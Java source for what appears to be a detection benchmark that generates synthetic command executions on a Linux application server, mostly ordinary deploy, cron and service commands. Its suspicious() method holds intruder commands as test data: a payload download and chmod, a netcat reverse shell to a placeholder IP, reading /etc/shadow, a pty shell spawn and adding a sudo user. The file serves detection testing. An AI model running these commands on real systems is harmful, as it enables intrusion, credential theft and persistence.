package io.vigil.detect.bench;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.Function;

/**
 * Programs a busy Linux application server runs (deploys, cron jobs, services, operators' shells),
 * with real-looking arguments, plus a few things an intruder does. The suspicious ones carry small
 * weights, so most events match no rule. Every choice comes from the caller's {@link Random}: same
 * seed, same commands.
 */
final class ServerCommands {
  /** An exec: the program's absolute path and its argv (argv[0] first). */
  record Command(String image, List<String> args) {}

  private record Template(int weight, Function<Random, Command> make) {}

  private static final String JAVA = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java";
  private static final String PY = "/usr/bin/python3.11";
  private static final String[] SERVICES = {
    "nginx.service", "orders.service", "postgresql@15-main.service", "redis-server.service"
  };
  private static final String[] LOGS = {
    "/var/log/nginx/access.log", "/var/log/orders/app.log", "/var/log/syslog", "/var/log/auth.log"
  };

  private final List<Template> templates = new ArrayList<>();
  private final int totalWeight;

  ServerCommands() {
    benign();
    suspicious();
    totalWeight = templates.stream().mapToInt(Template::weight).sum();
  }

  Command pick(Random r) {
    int x = r.nextInt(totalWeight);
    for (Template t : templates) {
      x -= t.weight;
      if (x < 0) {
        return t.make.apply(r);
      }
    }
    throw new AssertionError("weights");
  }

  private void add(int weight, Function<Random, Command> make) {
    templates.add(new Template(weight, make));
  }

  private static Command cmd(String image, String... args) {
    return new Command(image, List.of(args));
  }

  private void benign() {
    add(6, r -> cmd("/usr/bin/git", "git", "fetch", "--prune", "--quiet", "origin"));
    add(4, r -> cmd("/usr/bin/git", "git", "log", "--oneline", "-n", "20", "origin/main"));
    add(3, r -> cmd("/usr/bin/git", "git", "rev-parse", "--verify", "HEAD^{commit}"));
    add(
        8,
        r ->
            cmd(
                PY,
                "python3",
                "/srv/orders/current/manage.py",
                "process_jobs",
                "--queue=" + Gen.pick(r, "default", "mail", "billing", "reports"),
                "--batch-size=50",
                "--job-id=" + Gen.hex(r, 16)));
    add(
        3,
        r ->
            cmd(
                JAVA,
                "java",
                "-Xms512m",
                "-Xmx2g",
                "-XX:+UseG1GC",
                "-XX:MaxGCPauseMillis=200",
                "-Dspring.profiles.active=prod",
                "-Dlogging.config=/etc/orders/logback.xml",
                "-jar",
                "/opt/orders/orders-service-2.14." + r.nextInt(9) + ".jar",
                "--server.port=8081"));
    add(
        3,
        r ->
            cmd("/usr/bin/node", "node", "/srv/web/node_modules/.bin/next", "start", "-p", "3000"));
    add(6, r -> cmd("/usr/bin/ls", "ls", "-la", "--color=auto", Gen.pick(r, LOGS)));
    add(
        6,
        r -> cmd("/usr/bin/grep", "grep", "-E", "-c", "ERROR|WARN|Traceback", Gen.pick(r, LOGS)));
    add(4, r -> cmd("/usr/bin/awk", "awk", "{print $1}", "/var/log/nginx/access.log"));
    add(
        3,
        r ->
            cmd(
                "/usr/bin/sed",
                "sed",
                "-i",
                "s/^release=.*/release=2.14." + r.nextInt(9) + "/",
                "/srv/orders/shared/config/app.ini"));
    add(
        1,
        r ->
            cmd(
                "/usr/bin/tar",
                "tar",
                "-czf",
                "/backup/pg-20261128-" + Gen.digits(r, 4) + ".tar.gz",
                "-C",
                "/var/lib/postgresql/15",
                "main"));
    add(4, r -> cmd("/usr/bin/ps", "ps", "-eo", "pid,ppid,%cpu,rss,cmd", "--sort=-%cpu"));
    add(
        8,
        r -> cmd("/usr/bin/systemctl", "systemctl", "is-active", "--quiet", Gen.pick(r, SERVICES)));
    add(
        4,
        r -> cmd("/usr/bin/docker", "docker", "ps", "--format", "{{.ID}} {{.Image}} {{.Status}}"));
    add(
        3,
        r ->
            cmd(
                "/usr/local/bin/kubectl",
                "kubectl",
                "get",
                "pods",
                "-n",
                Gen.pick(r, "prod", "staging"),
                "-o",
                "wide"));
    add(
        4,
        r ->
            cmd(
                "/usr/lib/postgresql/15/bin/psql",
                "psql",
                "-U",
                "orders",
                "-d",
                "orders",
                "-Atc",
                "select count(*) from jobs where state = 'queued' and queue = 'billing'"));
    add(
        6,
        r ->
            cmd(
                "/usr/lib/postgresql/15/bin/postgres",
                "postgres",
                "-D",
                "/var/lib/postgresql/15/main",
                "-c",
                "config_file=/etc/postgresql/15/main/postgresql.conf"));
    add(5, r -> cmd("/usr/bin/sleep", "sleep", Integer.toString(1 + r.nextInt(60))));
    add(3, r -> cmd("/usr/bin/date", "date", "+%Y-%m-%dT%H:%M:%S%z"));
    add(
        4,
        r -> {
          String name = Gen.pick(r, "parser", "lexer", "buffer", "queue", "http_client", "crc32");
          return cmd(
              "/usr/bin/gcc",
              "gcc",
              "-O2",
              "-Wall",
              "-fPIC",
              "-Iinclude",
              "-c",
              "src/" + name + ".c",
              "-o",
              "build/" + name + ".o");
        });
    add(2, r -> cmd("/usr/bin/make", "make", "-j4", "all"));
    add(
        2,
        r ->
            cmd(
                "/usr/bin/rsync",
                "rsync",
                "-az",
                "--delete",
                "/srv/www/",
                "backup@10.0.3.4:/backups/www/"));
    add(1, r -> cmd("/usr/sbin/logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf"));
    add(2, r -> cmd("/usr/bin/dpkg-query", "dpkg-query", "-W", "-f=${Version}", "nginx"));
    add(2, r -> cmd("/usr/sbin/nginx", "nginx", "-t", "-q"));
    add(4, r -> cmd("/usr/sbin/sshd", "sshd", "-D", "-R"));
    add(3, r -> cmd("/usr/sbin/cron", "/usr/sbin/CRON", "-f", "-P"));
    add(2, r -> cmd("/usr/bin/run-parts", "run-parts", "--report", "/etc/cron.hourly"));
    add(2, r -> cmd("/usr/bin/df", "df", "-h", "--output=source,pcent,target", "/"));
    add(2, r -> cmd("/usr/bin/du", "du", "-sh", "/var/lib/docker/overlay2"));
    add(
        3,
        r ->
            cmd(
                "/usr/bin/mkdir",
                "mkdir",
                "-p",
                "/srv/orders/releases/20261128T" + Gen.digits(r, 6)));
    add(
        3,
        r -> {
          String release = "/srv/orders/releases/20261128T" + Gen.digits(r, 6);
          return cmd(
              "/usr/bin/cp", "cp", "-a", "/srv/orders/shared/config.yml", release + "/config.yml");
        });
    add(
        2,
        r ->
            cmd(
                "/usr/bin/ln",
                "ln",
                "-sfn",
                "/srv/orders/releases/20261128T" + Gen.digits(r, 6),
                "/srv/orders/current"));
    add(3, r -> cmd("/usr/bin/gzip", "gzip", "-9", "/var/log/orders/app-2026-11-27.log"));
    add(
        2,
        r ->
            cmd(
                "/usr/bin/journalctl",
                "journalctl",
                "-u",
                Gen.pick(r, SERVICES),
                "--since",
                "10 min ago",
                "--no-pager"));
    add(
        2,
        r ->
            cmd(
                PY,
                "python3",
                "-m",
                "pip",
                "install",
                "--no-cache-dir",
                "-r",
                "/srv/orders/current/requirements.txt"));
    add(2, r -> cmd("/usr/bin/node", "node", "/usr/bin/npm", "ci", "--omit=dev", "--no-audit"));
    add(3, r -> cmd("/usr/bin/redis-cli", "redis-cli", "-h", "10.0.2.15", "INFO", "memory"));
    add(
        2,
        r ->
            cmd(
                "/usr/bin/openssl",
                "openssl",
                "x509",
                "-noout",
                "-enddate",
                "-in",
                "/etc/ssl/certs/orders.example.com.pem"));
    add(
        5,
        r ->
            cmd(
                "/srv/orders/venv/bin/python3",
                "/srv/orders/venv/bin/python3",
                "/srv/orders/venv/bin/gunicorn",
                "--workers",
                "4",
                "--bind",
                "127.0.0.1:8000",
                "orders.wsgi:application"));
    add(
        5,
        r -> {
          String id = Gen.hex(r, 64);
          return cmd(
              "/usr/bin/runc",
              "runc",
              "--root",
              "/var/run/docker/runtime-runc/moby",
              "--log",
              "/run/containerd/io.containerd.runtime.v2.task/moby/" + id + "/log.json",
              "--log-format",
              "json",
              "state",
              id);
        });
    add(2, r -> cmd("/usr/bin/wc", "wc", "-l", "/var/log/nginx/access.log"));
    add(
        2,
        r -> cmd("/usr/bin/env", "/usr/bin/env", PY, "/usr/local/bin/healthcheck.py", "-t", "5"));
    add(1, r -> cmd("/usr/bin/vim.basic", "vim", "/etc/nginx/sites-available/orders.conf"));
    add(
        1,
        r -> cmd("/usr/bin/find", "find", "/var/tmp/orders-cache", "-type", "f", "-mmin", "+120"));
  }

  /** Each of these matches some SigmaHQ rule; together about 3 % of execs. */
  private void suspicious() {
    add(1, r -> cmd("/usr/bin/base64", "base64", "-d", "/tmp/.cache/p.b64"));
    add(1, r -> cmd("/usr/bin/cat", "cat", "/etc/shadow"));
    add(
        1,
        r ->
            cmd(
                "/usr/bin/wget",
                "wget",
                "-q",
                "http://203.0.113.45/x86_64/kworker",
                "-O",
                "/tmp/kworker"));
    add(1, r -> cmd("/usr/bin/chmod", "chmod", "+x", "/tmp/kworker"));
    add(1, r -> cmd("/usr/bin/nc.openbsd", "nc", "198.51.100.23", "4444", "-e", "/bin/sh"));
    add(1, r -> cmd(PY, "python3", "-c", "import pty;pty.spawn(\"/bin/bash\")"));
    add(1, r -> cmd("/usr/bin/crontab", "crontab", "-l"));
    add(
        1,
        r -> cmd("/usr/sbin/useradd", "useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "svc-ops"));
  }
}
